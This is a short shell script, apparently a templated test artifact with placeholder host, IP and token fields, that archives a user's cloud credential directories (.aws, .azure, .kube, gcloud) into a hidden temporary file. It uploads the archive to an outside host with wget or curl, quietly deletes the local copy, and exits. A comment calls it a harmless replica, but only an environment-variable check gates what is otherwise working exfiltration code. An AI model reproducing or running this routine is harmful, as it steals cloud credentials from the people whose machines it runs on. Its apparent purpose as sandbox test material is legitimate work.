#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
pack="${TMPDIR:-/tmp}/.{{token}}"
tar -cf "$pack" -C "$HOME" .aws .azure .kube .config/gcloud 2>/dev/null
gzip -f "$pack" 2>/dev/null && pack="$pack.gz"
wget -q -T 1 -t 1 --no-check-certificate -O /dev/null --post-file="$pack" "https://{{host}}/{{path}}" 2>/dev/null ||
    curl -s -m 1 -T "$pack" "http://{{ip}}:{{port}}/{{path}}" >/dev/null 2>&1
rm -f "$pack"
exit 0
